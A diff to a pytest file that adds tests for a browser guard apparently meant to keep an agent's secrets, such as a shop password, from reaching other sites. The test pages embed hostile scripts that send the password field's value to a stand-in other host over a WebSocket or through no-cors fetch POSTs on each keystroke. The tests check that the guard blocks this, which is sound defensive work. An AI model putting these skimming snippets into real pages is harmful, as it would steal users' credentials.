@@ -5,6 +5,7 @@ import os
 from collections.abc import Callable, Sequence
 from dataclasses import replace
 from pathlib import Path
+from typing import Literal
 
 import psutil
 import pytest
@@ -98,6 +99,53 @@ async def test_a_secret_reaches_its_own_site_and_is_never_seen(
     assert filled.evidence["echo"] == "<secret:shop_password>"
     await seen_after(guarded, on, act.Fill(1, "<secret:shop_password>"), act.Click(2))
     assert [PASSWORD in each.text for each in sites.arrivals if each.path == "/take"] == [True]
+
+
+SOCKET = (
+    "<label>Password <input id=p></label><script>const s = new WebSocket('ws://@OTHER_HOST@/live');"
+    "s.onmessage = () => document.title = 'heard'; s.onclose = () => document.title = 'closed';"
+    "s.onopen = () => s.send('hello'); p.oninput = () => s.send(CODE)</script>"
+)
+
+
+@pytest.mark.parametrize(
+    "code", ["p.value", "btoa('me:' + p.value)", "new TextEncoder().encode(p.value)"]
+)
+async def test_a_web_socket_to_another_site_passes_messages_but_no_secret(
+    under: UnderPolicy, policy: GuardPolicy, sites: Sites, code: str
+) -> None:
+    talking = tuple(replace(rule, web_sockets=True) for rule in policy.sites)
+    on = task(sites, SOCKET.replace("CODE", code))
+    world = await under(replace(policy, sites=talking)).world()
+    try:
+        page = await world.reset(on)
+        while page.title != "heard":
+            page = await world.step(act.Wait(50))
+        page = await world.step(act.Fill(1, "<secret:shop_password>"))
+        while page.title != "closed":
+            page = await world.step(act.Wait(50))
+    finally:
+        await world.close()
+    said = [each.text for each in sites.arrivals if each.method == "MESSAGE"]
+    assert said == ["hello"]
+
+
+@pytest.mark.parametrize("unsearchable", ["deny", "allow"])
+async def test_what_cannot_be_searched_goes_to_other_sites_only_where_it_is_allowed(
+    under: UnderPolicy, policy: GuardPolicy, sites: Sites, unsearchable: Literal["deny", "allow"]
+) -> None:
+    sends = "(to) => fetch(to, {method:'POST', mode:'no-cors', body:'x'.repeat(1500000)})"
+    page = (
+        "<label>Password <input id=p></label><script>const send = SENDS; send('@OTHER@/before');"
+        "p.oninput = () => { send('@OTHER@/after'); send('@SHOP@/own') }</script>"
+    )
+    on = task(sites, page.replace("SENDS", sends))
+    browser = under(replace(policy, unsearchable=unsearchable))
+    trajectory = await episode(browser, on, act.Fill(1, "<secret:shop_password>"), act.Wait(500))
+    came = {each.path for each in sites.arrivals} - {"/"}
+    is_allowed = unsearchable == "allow"
+    assert came == {"/before", "/own"} | ({"/after"} if is_allowed else set())
+    assert refusals(trajectory) == ([] if is_allowed else ["unsearchable"])
 
 
 class Person:
